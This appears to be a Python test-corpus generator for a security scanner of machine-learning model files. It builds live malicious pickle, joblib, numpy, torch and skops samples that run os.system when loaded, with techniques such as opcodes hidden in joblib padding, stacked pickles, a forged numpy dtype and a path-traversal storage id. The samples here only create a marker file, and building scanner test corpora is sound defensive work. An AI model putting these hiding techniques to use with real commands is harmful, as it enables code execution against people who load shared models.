"""Generate the scanner corpus into a directory: ``python generate.py OUT_DIR``.

Malicious samples are live (see README.md): loaded by their natural loader, each creates
``OUT_DIR/MARKER-<name>``. They are generated into temporary directories by the tests and
must never be committed. ``expectations.json`` beside this file states what the scanner
must decide for every sample; the tests check that both lists name the same samples.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))

from payloads import PICKLE_PAYLOADS, Built, Evil, call, glob, pk, text, touch, tup

__all__ = ["BENIGN", "MALICIOUS", "Built", "build"]



def marker(out: Path, name: str) -> str:
    return str(out / f"MARKER-{name}")


def _write(
    out: Path, filename: str, data: bytes, live: str | None = None, setup: str = ""
) -> Built:
    path = out / filename
    path.write_bytes(data)
    return Built(path, live, setup)


class _NoTell(io.BytesIO):
    """A stream joblib cannot tell() on: it then writes arrays without alignment padding."""

    def tell(self) -> int:
        raise io.UnsupportedOperation("tell")


def _joblib_bytes(value: object, compress: object = 0, aligned: bool = True) -> bytes:
    import joblib

    if aligned:
        buffer = io.BytesIO()
        joblib.dump(value, buffer, compress=compress)
        return buffer.getvalue()
    stream = _NoTell()
    joblib.dump(value, stream)
    return stream.getvalue()


# -- Malicious builders -------------------------------------------------------------------

def _pickle_sample(name: str) -> Callable[[Path], Built]:
    build_payload, setup = PICKLE_PAYLOADS[name]
    return lambda out: _write(out, f"{name}.pkl", build_payload(marker(out, name)), "pickle", setup)


def _second_pickle(out: Path) -> Built:
    m = marker(out, "pickle-second-pickle")
    return _write(out, "second.pkl", pk(text("benign")) + pickle.dumps(Evil(m)), "pickle-all")


def _trailing_garbage(out: Path) -> Built:
    return _write(out, "trailing.pkl", pickle.dumps({"a": 1}) + b"\x00\x01garbage")


def _real_pickler(out: Path) -> Built:
    m = marker(out, "pickle-real-reduce")
    return _write(out, "reduce.pkl", pickle.dumps({"model": [1, 2], "x": Evil(m)}, 5), "pickle")


def _joblib_after_buffer(compress: object) -> Callable[[Path], Built]:
    import numpy as np

    def build_it(out: Path) -> Built:
        name = f"joblib-after-buffer-{compress[0] if compress else 'raw'}"
        value = {"weights": np.linspace(0, 1, 4096), "x": Evil(marker(out, name))}
        return _write(out, f"{name}.joblib", _joblib_bytes(value, compress), "joblib")

    return build_it


def _joblib_array_opcodes(out: Path) -> Built:
    import numpy as np

    payload = call(glob("os", "system"), text(touch(marker(out, "joblib-array-opcodes"))))
    payload += b"." + b"\x00" * (-(len(payload) + 1) % 8)
    data = _joblib_bytes({"w": np.frombuffer(payload, dtype=np.uint8)}, aligned=False)
    return _write(out, "unaligned.joblib", data, "pickle")


def _joblib_padding_opcodes(out: Path) -> Built:
    import numpy as np

    data = bytearray(_joblib_bytes({"w": np.zeros(8)}))
    evil = call(glob("os", "system"), text(touch(marker(out, "joblib-padding-opcodes"))))
    # Replace the 1..16 padding before the array bytes with a large "padding" holding opcodes:
    # joblib skips it, a plain pickle.load would run it.
    pad = next(p for p in range(1, 17) if bytes([p]) + b"\xff" * p + b"\x00" * 64 in data)
    at = data.index(bytes([pad]) + b"\xff" * pad + b"\x00" * 64)
    data[at : at + 1 + pad] = bytes([len(evil) + 1]) + evil + b"."
    return _write(out, "padding.joblib", bytes(data))


def _npy_object(out: Path) -> Built:
    import numpy as np

    buffer = io.BytesIO()
    np.save(buffer, np.array([Evil(marker(out, "npy-object-array")), 1], dtype=object))
    return _write(out, "object.npy", buffer.getvalue(), "numpy")


def _npz_object(out: Path) -> Built:
    import numpy as np

    buffer = io.BytesIO()
    evil = np.array([Evil(marker(out, "npz-object-array"))], dtype=object)
    np.savez(buffer, weights=np.arange(4.0), evil=evil)
    return _write(out, "object.npz", buffer.getvalue(), "numpy-npz")


def _forged_dtype(out: Path) -> Built:
    dtype = (call(glob("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
             + tup(b"K\x03", text("|"), b"N", b"N", b"N", b"J\xff\xff\xff\xff",
                   b"J\xff\xff\xff\xff", b"K\x00") + b"b")
    array = call(glob("numpy._core.multiarray", "_reconstruct"), glob("numpy", "ndarray"),
                 tup(b"K\x00"), b"C\x01b")
    state = tup(b"K\x01", tup(b"K\x02"), dtype, b"\x89", b"C\x10" + b"\x41" * 16)
    return _write(out, "forged-dtype.pkl", pk(array + state + b"b", proto=3), "segfault")


def _tensor(key: str = "0", legacy: bool = False) -> bytes:
    """A tensor record as torch.save writes it: a rebuild call over a persistent storage id."""
    pid = tup(text("storage"), glob("torch", "FloatStorage"), text(key), text("cpu"), b"K\x02",
              *([b"N"] if legacy else [])) + b"Q"
    if legacy:
        return call(glob("torch._utils", "_rebuild_tensor"), pid, b"K\x00", tup(b"K\x02"),
                    tup(b"K\x01"))
    return call(glob("torch._utils", "_rebuild_tensor_v2"), pid, b"K\x00", tup(b"K\x02"),
                tup(b"K\x01"), b"\x89", call(glob("collections", "OrderedDict")))


def _torch_state_pickle(evil: str | None = None, key: str = "0", legacy: bool = False) -> bytes:
    """An OrderedDict state dict (optionally with an os.system item before the tensor)."""
    items = b""
    if evil is not None:
        items += text("x") + call(glob("os", "system"), text(touch(evil)))
    items += text("weight") + _tensor(key, legacy)
    return pk(call(glob("collections", "OrderedDict")) + b"(" + items + b"u", proto=2)


def _torch_zip(pkl: bytes, extra: dict[str, bytes] | None = None, storage: bool = True) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", pkl)
        archive.writestr("archive/byteorder", "little")
        if storage:
            archive.writestr("archive/data/0", struct.pack("<2f", 1.0, 2.0))
        archive.writestr("archive/version", "3\n")
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _torch_legacy(model: bytes) -> bytes:
    parts = [pickle.dumps(0x1950A86A20F9469CFC6C, 2), pickle.dumps(1001, 2),
             pickle.dumps({"protocol_version": 1001, "little_endian": True,
                           "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2),
             model, pickle.dumps(["0"], 2), struct.pack("<q", 2) + struct.pack("<2f", 1, 2)]
    return b"".join(parts)


def _skops_with(schema_edit: Callable[[dict], None]) -> bytes:
    import skops.io as sio
    from sklearn.preprocessing import StandardScaler

    archive = zipfile.ZipFile(io.BytesIO(sio.dumps(StandardScaler())))
    schema = json.loads(archive.read("schema.json"))
    schema_edit(schema)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as new:
        for info in archive.infolist():
            data = json.dumps(schema).encode() if info.filename == "schema.json" else \
                archive.read(info)
            new.writestr(info.filename, data)
    return out.getvalue()


def _skops_untrusted(out: Path) -> Built:
    import os as _os

    import skops.io as sio
    from sklearn.preprocessing import FunctionTransformer

    return _write(out, "untrusted.skops", sio.dumps(FunctionTransformer(func=_os.system)))


def _skops_method(out: Path) -> Built:
    def edit(schema: dict) -> None:
        schema["content"]["content"]["hook"] = {
            "__class__": "StandardScaler", "__module__": "sklearn.preprocessing._data",
            "__loader__": "MethodNode", "content": {"func": "fit", "obj": {}}}

    return _write(out, "method.skops", _skops_with(edit))


from corpus_keras import KERAS_BENIGN, KERAS_MALICIOUS  # noqa: E402
from corpus_more import MORE_BENIGN, MORE_MALICIOUS  # noqa: E402
from corpus_torch import TORCH_BENIGN, TORCH_MALICIOUS  # noqa: E402
from corpus_values import VALUE_BENIGN, VALUE_MALICIOUS  # noqa: E402

MALICIOUS: dict[str, Callable[[Path], Built]] = {
    **{name: _pickle_sample(name) for name in PICKLE_PAYLOADS},
    "pickle-second-pickle": _second_pickle,
    "pickle-trailing-garbage": _trailing_garbage,
    "pickle-real-reduce": _real_pickler,
    **{f"joblib-after-buffer-{c[0] if c else 'raw'}": _joblib_after_buffer(c)
       for c in (0, ("zlib", 3), ("gzip", 3), ("bz2", 3), ("lzma", 3), ("xz", 3))},
    "joblib-array-opcodes": _joblib_array_opcodes,
    "joblib-padding-opcodes": _joblib_padding_opcodes,
    "npy-object-array": _npy_object,
    "npz-object-array": _npz_object,
    "pickle-numpy-forged-dtype": _forged_dtype,
    "torch-zip-evil": lambda out: _write(out, "evil.pt", _torch_zip(_torch_state_pickle(
        marker(out, "torch-zip-evil")))),
    "torch-zip-bad-persistent-id": lambda out: _write(out, "badpid.pt", _torch_zip(
        _torch_state_pickle(key="../version"))),
    "torch-zip-missing-storage": lambda out: _write(out, "missing.pt", _torch_zip(
        _torch_state_pickle(), storage=False)),
    "torch-zip-torchscript": lambda out: _write(out, "script.pt", _torch_zip(
        _torch_state_pickle(), {"archive/code/__torch__/model.py": b"def forward(self): pass"})),
    "torch-legacy-evil": lambda out: _write(out, "legacy-evil.pt", _torch_legacy(
        _torch_state_pickle(marker(out, "torch-legacy-evil"), legacy=True)), "pickle-all"),
    "skops-untrusted-type": _skops_untrusted,
    "skops-method-node": _skops_method,
    **MORE_MALICIOUS,
    **VALUE_MALICIOUS,
    **KERAS_MALICIOUS,
    **TORCH_MALICIOUS,
}

BENIGN: dict[str, Callable[[Path], Built]] = {
    "torch-zip-state-dict": lambda out: _write(out, "state.pt", _torch_zip(_torch_state_pickle())),
    "torch-legacy-state-dict": lambda out: _write(out, "legacy.pt", _torch_legacy(
        _torch_state_pickle(legacy=True))),
    "joblib-unaligned-arrays": lambda out: _write(out, "unaligned-ok.joblib", _joblib_bytes(
        {"w": __import__("numpy").arange(1000.0)}, aligned=False)),
    **MORE_BENIGN,
    **VALUE_BENIGN,
    **KERAS_BENIGN,
    **TORCH_BENIGN,
}


def build(name: str, out: Path) -> Built:
    """Generate one sample by name into ``out``."""
    return {**MALICIOUS, **BENIGN}[name](out)


def main(argv: list[str]) -> int:
    out = Path(argv[1] if len(argv) > 1 else "corpus-out")
    out.mkdir(parents=True, exist_ok=True)
    for name in sorted({**MALICIOUS, **BENIGN}):
        built = build(name, out)
        print(f"{name:45s} {built.path.name}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
